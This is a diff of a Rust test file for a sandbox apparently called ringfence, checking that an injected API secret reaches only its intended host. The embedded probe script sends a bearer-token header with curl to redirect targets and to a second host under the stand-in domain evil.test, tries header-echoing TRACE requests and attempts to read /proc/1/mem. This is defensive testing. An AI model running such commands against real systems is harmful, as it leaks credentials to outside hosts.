@@ -4,7 +4,7 @@ use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
-use conformance::{Caller, Place, Ring, Stage, World};
+use conformance::{BackendRing, Caller, CallerPlace, SimulatedWorld, TestStage};
 use ringfence_test_ledger::require;
 
 /// Program that searches for a secret in everything that it can read.
@@ -14,51 +14,57 @@ const PLACEHOLDER: &str = "placeholder-for-a-secret-that-stays-outside";
 /// that sends its header to redirect targets, another host, clear-text HTTP, methods whose answer
 /// repeats the request, and a client that uses only the system's certificate bundle. It checks that
 /// variables lead to the bundle, and searches the first process and all files.
-const SCRIPT: &str = r#"
+const SCRIPT: &str = concat!(
+    r#"
 fetch() { curl --silent --show-error --header "Authorization: Bearer $API_KEY" "$@"; echo; }
 fetch "https://$HOST/curl"
-python3 -c 'import sys, urllib.request as r; print(r.urlopen(sys.argv[1], timeout=10).status)' "https://$HOST/python"
+python3 -c 'import sys, urllib.request as r; print(r.urlopen(sys.argv[1], timeout=10).status)' "#,
+    r#""https://$HOST/python"
 fetch --location-trusted "https://$HOST/to/$REDIRECT"
 fetch "https://$OTHER/other"
 status() { curl --silent --output /dev/null --write-out '%{http_code}\n' "$@"; }
 status "http://$HOST/clear"
 for method in TRACE trace TRACK tRaCk; do
-    echo "$(status --request "$method" "https://$HOST/echo") $(status --request "$method" "https://$OTHER/echo")"
+    echo "$(status --request "$method" "https://$HOST/echo") $(status --request "$method" "#,
+    r#""https://$OTHER/echo")"
 done
 env --unset SSL_CERT_FILE --unset CURL_CA_BUNDLE curl --silent "https://$HOST/bundle"; echo " $?"
-for name in AWS_CA_BUNDLE CARGO_HTTP_CAINFO CURL_CA_BUNDLE DENO_CERT GIT_SSL_CAINFO NIX_SSL_CERT_FILE \
+for name in AWS_CA_BUNDLE CARGO_HTTP_CAINFO CURL_CA_BUNDLE DENO_CERT GIT_SSL_CAINFO "#,
+    r#"NIX_SSL_CERT_FILE \
     NODE_EXTRA_CA_CERTS PIP_CERT REQUESTS_CA_BUNDLE SSL_CERT_FILE; do
-    grep --quiet "$(sed --quiet 5p /run/ringfence/ca.pem)" "$(printenv "$name")" || echo "$name leads nowhere"
+    grep --quiet "$(sed --quiet 5p /run/ringfence/ca.pem)" "$(printenv "$name")" || echo "$name "#,
+    r#"leads nowhere"
 done
 (: < /proc/1/mem) 2> /dev/null && echo open || echo closed
 python3 -c "$0" "$1"
 echo "$API_KEY"
-"#;
+"#
+);
 
 /// The place of the secret on the host.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(super) enum Origin {
+pub(super) enum SecretOrigin {
     Variable,
     File,
 }
 
 /// A host that gets a secret, and another host that does not.
 #[derive(Debug)]
-pub(super) struct Case {
-    pub(super) stage: Stage,
-    pub(super) origin: Origin,
+pub(super) struct SecretCase {
+    pub(super) stage: TestStage,
+    pub(super) origin: SecretOrigin,
     pub(super) host: String,
     pub(super) other: String,
     pub(super) secret: String,
 }
 
-impl Case {
-    pub(super) fn new(stage: Stage, origin: Origin, name: &str) -> Case {
+impl SecretCase {
+    pub(super) fn new(stage: TestStage, origin: SecretOrigin, name: &str) -> SecretCase {
         let mark =
             format!("{:05x}{name}{origin:?}{:?}{:?}", std::process::id(), stage.ring, stage.caller);
         let mark = mark.to_lowercase();
         let host = |kind: &str| format!("{kind}{mark}.evil.test");
-        Case {
+        SecretCase {
             stage,
             origin,
             host: host("own"),
@@ -69,12 +75,12 @@ impl Case {
 
     /// Writes settings with a credential for the host below `home`. If the secret comes from a
     /// file, also writes that file.
-    pub(super) fn configure(&self, place: &Place, home: &Path) {
+    pub(super) fn configure(&self, place: &CallerPlace, home: &Path) {
         let settings = home.join(".config/ringfence");
         fs_err::create_dir_all(&settings).expect("the place is ours");
         let origin = match self.origin {
-            Origin::Variable => "variable = 'API_KEY'".to_owned(),
-            Origin::File => {
+            SecretOrigin::Variable => "variable = 'API_KEY'".to_owned(),
+            SecretOrigin::File => {
                 let file = place.path().join("secret");
                 fs_err::write(&file, &self.secret).expect("the place is ours");
                 fs_err::set_permissions(&file, PermissionsExt::from_mode(0o600))
@@ -90,14 +96,15 @@ impl Case {
         let audit = format!("[audit]\nstore = 'always'\ndir = '{}'\n", records.display());
         fs_err::write(settings.join("config.toml"), audit + &credential)
             .expect("the place is ours");
-        fs_err::copy(World::shared().authority(), authority(place)).expect("the place is ours");
+        fs_err::copy(SimulatedWorld::shared().authority(), authority(place))
+            .expect("the place is ours");
     }
 
     /// Makes `ringfence run` or `up` allow both hosts and log everything, and gives it the secret.
-    pub(super) fn prepare(&self, command: &mut Command, place: &Place) {
-        let Case { host, other, .. } = self;
+    pub(super) fn prepare(&self, command: &mut Command, place: &CallerPlace) {
+        let SecretCase { host, other, .. } = self;
         command.env("SSL_CERT_FILE", authority(place)).env("RINGFENCE_LOG", "trace");
-        if self.origin == Origin::Variable {
+        if self.origin == SecretOrigin::Variable {
             command.env("API_KEY", &self.secret);
         }
         let redirect: String = format!("https://{other}/redirected")
@@ -120,7 +127,7 @@ impl Case {
     /// Checks the output of the script, and the headers that each host got.
     #[track_caller]
     pub(super) fn check(&self, output: &Output) {
-        let Case { stage, secret, .. } = self;
+        let SecretCase { stage, secret, .. } = self;
         let said = said(output);
         assert!(!said.contains(secret), "{self:?}: it was told: {said}");
         let result: serde_json::Value = serde_json::from_slice(&output.stdout)
@@ -137,7 +144,7 @@ impl Case {
         assert_eq!(result["stdout"], expected, "{self:?}: {said}");
         assert_eq!(
             self.shown(),
-            Shown { secret: if is_container { 3 } else { 4 }, placeholder: 2 },
+            CredentialCounts { secret: if is_container { 3 } else { 4 }, placeholder: 2 },
             "{self:?}"
         );
     }
@@ -145,10 +152,10 @@ impl Case {
     /// Returns how often the host got the secret and the other host got the placeholder. Fails if
     /// either host got anything else.
     #[track_caller]
-    pub(super) fn shown(&self) -> Shown {
-        let Case { host, other, secret, .. } = self;
+    pub(super) fn shown(&self) -> CredentialCounts {
+        let SecretCase { host, other, secret, .. } = self;
         let heard = |[host, part]: [&str; 2]| {
-            World::shared()
+            SimulatedWorld::shared()
                 .arrivals(host)
                 .iter()
                 .filter(|arrival| arrival.data.contains(part))
@@ -156,7 +163,7 @@ impl Case {
         };
         assert_eq!(heard([host, "placeholder"]), 0, "{self:?}");
         assert_eq!(heard([other, secret]), 0, "{self:?}");
-        Shown {
+        CredentialCounts {
             secret: heard([&format!("host: {host}"), &format!("authorization: bearer {secret}")]),
             placeholder: heard([&format!("host: {other}"), "authorization: bearer placeholder"]),
         }
@@ -165,7 +172,7 @@ impl Case {
 
 /// Number of requests that contained a credential.
 #[derive(Debug, PartialEq, Eq)]
-pub(super) struct Shown {
+pub(super) struct CredentialCounts {
     /// Requests in which the host got the secret.
     pub(super) secret: usize,
     /// Requests in which the other host got the placeholder.
@@ -174,15 +181,15 @@ pub(super) struct Shown {
 
 /// Returns the stages of a ring on the host of a world. Engines run outside the world and do not
 /// see mounts that root makes in it, so only an ordinary user calls them.
-pub(super) fn stages(ring: Ring) -> Vec<Stage> {
+pub(super) fn stages(ring: BackendRing) -> Vec<TestStage> {
     match ring.engine() {
-        Some(_) => vec![Stage { ring, caller: Caller::Ordinary }],
-        None => Stage::all_on(ring).collect(),
+        Some(_) => vec![TestStage { ring, caller: Caller::Ordinary }],
+        None => TestStage::all_on(ring).collect(),
     }
 }
 
 /// Returns the path of the certificates that ringfence trusts.
-fn authority(place: &Place) -> PathBuf {
+fn authority(place: &CallerPlace) -> PathBuf {
     place.path().join("authority.pem")
 }
 
@@ -200,10 +207,10 @@ fn said(output: &Output) -> String {
 }
 
 /// Runs the script on the host of a world, with a credential in the settings of the caller.
-fn run(case: &Case, secret: Option<&str>) -> Output {
-    let place = Place::on_the_host_of(World::shared(), case.stage.caller);
+fn run(case: &SecretCase, secret: Option<&str>) -> Output {
+    let place = CallerPlace::for_host_of(SimulatedWorld::shared(), case.stage.caller);
     // The settings of ringfence must not be in a workspace.
-    let home = Place::of(case.stage.caller);
+    let home = CallerPlace::for_caller(case.stage.caller);
     case.configure(&place, home.path());
     let mut command = case.stage.ringfence("run", &place);
     case.prepare(&mut command, &place);
@@ -213,48 +220,48 @@ fn run(case: &Case, secret: Option<&str>) -> Output {
 }
 
 #[track_caller]
-fn check(ring: Ring) {
+fn check(ring: BackendRing) {
     for stage in stages(ring) {
-        let case = Case::new(stage, Origin::Variable, "run");
+        let case = SecretCase::new(stage, SecretOrigin::Variable, "run");
         case.check(&run(&case, Some(&case.secret)));
     }
 }
 
 #[test]
-fn a_secret_reaches_its_host_and_nothing_inside_native() {
+fn a_secret_reaches_its_host_and_no_process_inside_native() {
     require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces);
-    check(Ring::Native);
+    check(BackendRing::Native);
 }
 
 #[test]
-fn a_secret_reaches_its_host_and_nothing_inside_bwrap() {
+fn a_secret_reaches_its_host_and_no_process_inside_bwrap() {
     require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces, bwrap);
-    check(Ring::Bwrap);
+    check(BackendRing::Bwrap);
 }
 
 #[test]
-fn a_secret_reaches_its_host_and_nothing_inside_docker() {
+fn a_secret_reaches_its_host_and_no_process_inside_docker() {
     require!(root, ordinary_user, binary, python3, own_network, docker, test_image_dev);
-    check(Ring::Docker);
+    check(BackendRing::Docker);
 }
 
 #[test]
-fn a_secret_reaches_its_host_and_nothing_inside_podman() {
+fn a_secret_reaches_its_host_and_no_process_inside_podman() {
     require!(root, ordinary_user, binary, python3, own_network, podman, test_image_dev);
-    check(Ring::Podman);
+    check(BackendRing::Podman);
 }
 
 #[test]
-fn a_secret_reaches_its_host_and_nothing_inside_rootless_podman() {
+fn a_secret_reaches_its_host_and_no_process_inside_rootless_podman() {
     require!(root, ordinary_user, binary, python3, own_network, rootless_podman, test_image_dev);
-    check(Ring::RootlessPodman);
+    check(BackendRing::RootlessPodman);
 }
 
 #[test]
-fn a_secret_that_cannot_be_had_is_an_error_before_anything_runs() {
+fn an_unavailable_secret_is_an_error_before_the_run() {
     require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces);
-    let stage = Stage::all_on(Ring::Native).next().expect("somebody calls");
-    let case = Case::new(stage, Origin::Variable, "missing");
+    let stage = TestStage::all_on(BackendRing::Native).next().expect("somebody calls");
+    let case = SecretCase::new(stage, SecretOrigin::Variable, "missing");
     let output = run(&case, None);
     let (said, host) = (said(&output), &case.host);
     assert_eq!(output.status.code(), Some(2), "{said}");
@@ -265,6 +272,6 @@ fn a_secret_that_cannot_be_had_is_an_error_before_anything_runs() {
         "{said}"
     );
     assert!(said.contains("export API_KEY"), "{said}");
-    assert!(World::shared().places_of(host).is_empty());
-    assert!(World::shared().places_of(&case.other).is_empty());
+    assert!(SimulatedWorld::shared().places_of(host).is_empty());
+    assert!(SimulatedWorld::shared().places_of(&case.other).is_empty());
 }
